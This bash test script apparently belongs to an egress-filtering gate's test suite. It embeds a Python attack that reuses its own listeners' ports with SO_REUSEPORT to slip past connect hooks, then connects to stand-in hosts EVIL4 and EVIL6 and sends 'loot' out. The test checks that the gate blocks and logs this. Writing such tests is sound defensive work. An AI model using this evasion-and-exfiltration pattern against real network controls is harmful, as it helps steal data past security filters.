#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: connects from the port, and the address, that a listener of its own has
# stopped-by: connect4, connect6, egress
# reason: destination
# kernels: all
#
# A socket of the same port, and one that is older than the gate, so that only the packet hook sees it:
# its connection is begun, and its packets are no answers.
. "$(dirname "$0")/lib.sh"
arena tcp/443

attack_by <<'PYTHON'
from attacker import *

def bound(own, port):
    sock = tcp(own)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    sock.bind((own, port))
    return sock

older = bound(OWN4, 8443)
older.connect((EVIL4, 443))
outbound4, outbound6 = bound(OWN4, 8444), bound(OWN6, 8444)
listeners = [bound(OWN4, 8443), bound(OWN4, 8444), bound(OWN6, 8444)]
for listener in listeners:
    listener.listen()
ready()
with attempt("older"):
    older.sendall(loot("older"))
for sock, evil, tag in (outbound4, EVIL4, "ipv4"), (outbound6, EVIL6, "ipv6"):
    with attempt(tag):
        sock.connect((evil, 443))
        sock.sendall(loot(tag))
PYTHON
works_once_open stolen:older stolen:ipv4 stolen:ipv6
stopped_once_open gate
recorded connect4 destination
recorded connect6 destination
recorded 'egress|sock_destroy' destination
